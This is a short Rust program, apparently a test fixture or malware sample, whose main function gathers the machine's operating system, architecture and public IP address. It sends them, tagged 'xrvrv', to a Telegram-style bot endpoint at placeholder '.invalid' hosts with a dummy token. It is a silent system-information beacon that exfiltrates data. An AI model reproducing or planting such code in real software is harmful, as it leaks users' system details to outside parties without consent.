use std::env;

const TOKEN: &str = "bot0000000000:fixture";
const CHAT: &str = "-1000000000000";

fn main() {
    let os = env::consts::OS;
    let arch = env::consts::ARCH;
    let ip = match minreq::get("http://ip.example.invalid/").send() {
        Ok(response) => response.as_str().unwrap_or("").to_string(),
        Err(_) => String::from("unknown"),
    };
    let text = format!("xrvrv | {} {} | {}", os, arch, ip);
    let url = format!("https://bot.example.invalid/{}/sendMessage?chat_id={}&text={}", TOKEN, CHAT, text);
    let _ = minreq::get(url).send();
}
